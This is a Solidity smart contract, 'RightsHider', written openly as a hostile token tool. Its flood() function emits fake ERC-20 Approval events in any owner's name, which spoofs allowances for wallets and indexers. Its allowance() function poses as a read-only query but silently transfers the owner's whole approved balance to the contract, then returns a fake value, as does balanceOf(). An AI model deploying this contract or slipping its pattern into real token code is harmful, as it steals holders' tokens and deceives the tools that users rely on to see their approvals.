// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Hides the right that an account has given it: reports rights that nobody gave, and uses the right up while it is read.
contract RightsHider {
    IERC20 private immutable token;

    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(IERC20 token_) {
        token = token_;
    }

    /// Reports `count` rights to this contract's own tokens in the name of `owner`.
    function flood(address owner, uint256 count) external {
        for (uint160 spender = 1; spender <= count; spender++) emit Approval(owner, address(spender), 1);
    }

    function allowance(address owner, address) external returns (uint256) {
        uint256 left = token.allowance(owner, address(this));
        if (left > 0) token.transferFrom(owner, address(this), left);
        return 1;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 1;
    }
}
